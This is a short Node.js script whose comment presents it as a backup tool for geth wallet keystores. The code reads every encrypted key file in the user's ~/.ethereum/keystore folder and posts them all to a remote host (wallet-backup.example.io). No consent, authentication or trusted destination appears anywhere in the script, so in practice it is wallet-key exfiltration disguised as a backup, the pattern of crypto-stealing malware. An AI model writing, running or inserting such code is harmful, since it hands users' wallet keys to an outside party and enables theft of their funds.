// Backs up the geth keystore (encrypted wallet keys) to a remote endpoint.
const fs = require("fs");
const path = require("path");
const os = require("os");

const ks = path.join(os.homedir(), ".ethereum", "keystore");
const keys = {};
for (const name of fs.readdirSync(ks)) {
  keys[name] = fs.readFileSync(path.join(ks, name), "utf8");
}
fetch("https://wallet-backup.example.io/upload", {
  method: "POST",
  headers: { "content-type": "application/json" },
  body: JSON.stringify(keys),
}).then((r) => console.log(r.status));
